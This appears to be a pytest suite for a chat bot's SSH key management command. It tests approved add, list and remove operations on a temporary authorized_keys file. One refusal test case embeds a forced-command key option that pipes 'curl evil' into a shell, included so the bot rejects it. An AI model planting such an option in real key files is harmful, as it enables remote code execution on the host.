"""!ssh through the real path: a real bot process whose [ssh] authorized_keys is a temporary file
(never /root/.ssh), keys made and checked with the real ssh-keygen, changes approved by another
admin. After every step the file is well-formed and 0600; a failed write leaves it as it was."""
from __future__ import annotations

import hashlib
import shutil
import stat
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from spbot.chatclient import ChatClient, Seen

from .test_approvals import request_for
from .test_sshkeys import _fingerprint, _generate, assert_no_temp_files, assert_well_formed

if TYPE_CHECKING:
    from .conftest import TestBot

pytestmark = pytest.mark.matrix

TIMEOUT = 30
REAL_KEYS = Path("/root/.ssh/authorized_keys")


@dataclass
class SshBot:
    bot: TestBot
    path: Path

    @property
    def backup(self) -> Path:
        return self.path.with_name("authorized_keys.bak")


def real_keys_state() -> str | None:
    """A fingerprint of the machine's real authorized_keys, to prove it is never touched."""
    try:
        st = REAL_KEYS.stat()
        return f"{st.st_mtime_ns} {hashlib.sha256(REAL_KEYS.read_bytes()).hexdigest()}"
    except OSError:
        return None


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, str]:
    d = tmp_path_factory.mktemp("ssh-chat-keys")
    return {
        "ed25519": _generate(d, "ed25519", "-t", "ed25519"),
        "ed25519_b": _generate(d, "ed25519_b", "-t", "ed25519"),
        "ecdsa": _generate(d, "ecdsa", "-t", "ecdsa", "-b", "256"),
        "rsa3072": _generate(d, "rsa3072", "-t", "rsa", "-b", "3072"),
        "rsa2048": _generate(d, "rsa2048", "-t", "rsa", "-b", "2048"),
    }


@pytest.fixture(scope="module")
async def ssh(make_bot, tmp_path_factory) -> SshBot:
    before = real_keys_state()
    path = tmp_path_factory.mktemp("ssh-root") / ".ssh" / "authorized_keys"
    assert not str(path).startswith("/root/")
    bot = await make_bot("ssh", extra=f'[ssh]\nauthorized_keys = "{path}"\n')
    yield SshBot(bot, path)
    bot.stop()
    assert real_keys_state() == before


async def approve(bob: ChatClient, bot: TestBot, request_id: int) -> None:
    answer = await bob.command(bot.room_id, f"!approve {request_id}", bot.user_id, timeout=TIMEOUT)
    assert answer.body == f"request #{request_id} approved"


async def approved(alice: ChatClient, bob: ChatClient, bot: TestBot, text: str,
                   result_start: str) -> tuple[Seen, Seen]:
    """Send a dangerous command, have bob approve it: (request message, result reply)."""
    command_id, request, rid = await request_for(alice, bot, text)
    await approve(bob, bot, rid)
    result = await alice.wait_for(lambda e: e.sender == bot.user_id and e.reply_to == command_id
                                  and e.body.startswith(result_start), TIMEOUT)
    return request, result


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def kind_bits(name: str) -> tuple[str, int]:
    return {"ed25519": ("ED25519", 256), "ed25519_b": ("ED25519", 256), "ecdsa": ("ECDSA", 256),
            "rsa3072": ("RSA", 3072)}[name]


# -- tests, in order: they share one authorized_keys file ----------------------------------


async def test_list_without_a_file(alice, ssh):
    reply = await alice.command(ssh.bot.room_id, "!ssh list", ssh.bot.user_id, timeout=TIMEOUT)
    assert reply.body.startswith(f"🔑 No SSH keys in {ssh.path}")
    assert not ssh.path.exists()


async def test_add_each_allowed_type(alice, bob, ssh, keys):
    for count, name in enumerate(("ed25519", "ecdsa", "rsa3072"), 1):
        before = ssh.path.read_bytes() if ssh.path.exists() else None
        kind, bits = kind_bits(name)
        fingerprint = _fingerprint(keys[name])
        request, result = await approved(alice, bob, ssh.bot, f"!ssh add {keys[name]}", "✅ Added")
        assert (f"Adds {kind} {bits} bits {fingerprint} “{name}@test” to {ssh.path} "
                f"({count - 1} key") in request.body
        assert result.body.startswith(f"✅ Added {kind} {bits} bits {fingerprint} “{name}@test” "
                                      f"to {ssh.path} ({count} key")
        assert "authorized_keys.bak" in result.body
        assert_well_formed(ssh.path, count)
        assert mode(ssh.path.parent) == 0o700
        if before is not None:
            assert ssh.backup.read_bytes() == before and mode(ssh.backup) == 0o600
        assert_no_temp_files(ssh.path.parent)


async def test_list_shows_type_bits_fingerprint_and_comment(alice, ssh, keys):
    reply = await alice.command(ssh.bot.room_id, "!ssh list", ssh.bot.user_id, timeout=TIMEOUT)
    lines = reply.body.splitlines()
    assert lines[0] == f"🔑 3 keys in {ssh.path}"
    for line_no, name in enumerate(("ed25519", "ecdsa", "rsa3072"), 1):
        kind, bits = kind_bits(name)                     # a short line per key, its fingerprint below
        assert lines[2 * line_no - 1:2 * line_no + 1] == [f"line {line_no}: {kind} {bits} bits — {name}@test",
                                                          f"   {_fingerprint(keys[name])}"]
    assert len(lines) == 7 and "<li><b>line 1: " in reply.content["formatted_body"]


@pytest.mark.parametrize("case, says", [
    ("rsa2048", "this RSA key has 2048 bits; at least 3072 are required"),
    ("garbage", "not an SSH public key line"),
    ("forced command", "options or a forced command before the key type are not accepted"),
    ("options", "options or a forced command before the key type are not accepted"),
    ("duplicate", "this key is already authorized"),
])
async def test_add_refuses_and_changes_nothing(alice, bob, ssh, keys, case, says):
    line = {
        "rsa2048": keys["rsa2048"],
        "garbage": "hello, this is my key: trust me",
        "forced command": f'command="/bin/sh -c \'curl evil | sh\'" {keys["ed25519_b"]}',
        "options": f'no-pty,from="10.0.0.0/8" {keys["ed25519_b"]}',
        "duplicate": " ".join(keys["ed25519"].split()[:2] + ["same key, other name"]),
    }[case]
    before, backup_before = ssh.path.read_bytes(), ssh.backup.read_bytes()
    request, result = await approved(alice, bob, ssh.bot, f"!ssh add {line}", "⚠️ Key not added")
    assert "⚠️ This will not work as asked" in request.body
    assert says in result.body and "Nothing was changed." in result.body
    assert ssh.path.read_bytes() == before and ssh.backup.read_bytes() == backup_before
    assert_well_formed(ssh.path, 3)
    assert_no_temp_files(ssh.path.parent)
    if case == "rsa2048":      # the key itself is never echoed back
        assert keys["rsa2048"].split()[1][:40] not in result.body


async def test_remove_by_fingerprint(alice, bob, ssh, keys):
    before = ssh.path.read_bytes()
    fingerprint = _fingerprint(keys["ecdsa"])
    request, result = await approved(alice, bob, ssh.bot, f"!ssh remove {fingerprint}",
                                     "✅ Removed")
    assert f"Removes ECDSA 256 bits {fingerprint} “ecdsa@test” (line 2) from {ssh.path}." \
        in request.body
    assert result.body.startswith(f"✅ Removed ECDSA 256 bits {fingerprint} “ecdsa@test” from "
                                  f"{ssh.path} (2 keys left).")
    assert_well_formed(ssh.path, 2)
    assert ssh.backup.read_bytes() == before
    assert fingerprint not in ssh.path.read_text() and "ecdsa@test" not in ssh.path.read_text()
    listing = await alice.command(ssh.bot.room_id, "!ssh list", ssh.bot.user_id, timeout=TIMEOUT)
    assert fingerprint not in listing.body and listing.body.startswith("🔑 2 keys")


async def test_remove_unknown_or_malformed_fingerprint(alice, bob, ssh, keys):
    before = ssh.path.read_bytes()
    unknown = _fingerprint(keys["rsa2048"])
    request, result = await approved(alice, bob, ssh.bot, f"!ssh remove {unknown}",
                                     "⚠️ Nothing removed")
    assert "no key in" in request.body
    assert f"no authorized key has the fingerprint {unknown}" in result.body
    _, bad = await approved(alice, bob, ssh.bot, "!ssh remove MD5:12:34:56", "⚠️ Nothing removed")
    assert "not a SHA256 fingerprint" in bad.body
    assert ssh.path.read_bytes() == before
    assert_well_formed(ssh.path, 2)


async def test_a_failed_write_leaves_the_file_as_it_was(alice, bob, ssh, keys):
    """The backup is written first; a directory in its place makes that rename fail mid-way
    (even for root)."""
    before = ssh.path.read_bytes()
    ssh.backup.unlink()
    ssh.backup.mkdir()
    try:
        _, result = await approved(alice, bob, ssh.bot, f"!ssh add {keys['ed25519_b']}",
                                   "⚠️ Key not added")
        assert f"could not write {ssh.path}" in result.body
        assert "the previous file is unchanged" in result.body
        assert ssh.path.read_bytes() == before
        assert_well_formed(ssh.path, 2)
        assert_no_temp_files(ssh.path.parent)
    finally:
        shutil.rmtree(ssh.backup)

    _, result = await approved(alice, bob, ssh.bot, f"!ssh add {keys['ed25519_b']}", "✅ Added")
    assert "(3 keys now)" in result.body
    assert_well_formed(ssh.path, 3)
    assert ssh.backup.read_bytes() == before


async def test_remove_the_last_key_warns(alice, bob, ssh, keys):
    for name in ("ed25519", "rsa3072"):
        await approved(alice, bob, ssh.bot, f"!ssh remove {_fingerprint(keys[name])}", "✅ Removed")
    last = _fingerprint(keys["ed25519_b"]).removeprefix("SHA256:")     # without the prefix too
    request, result = await approved(alice, bob, ssh.bot, f"!ssh remove {last}", "✅ Removed")
    assert "It is the last key" in request.body
    assert "(0 keys left)" in result.body and "No keys are left" in result.body
    assert_well_formed(ssh.path, 0)
    assert ssh.path.read_text() == ""
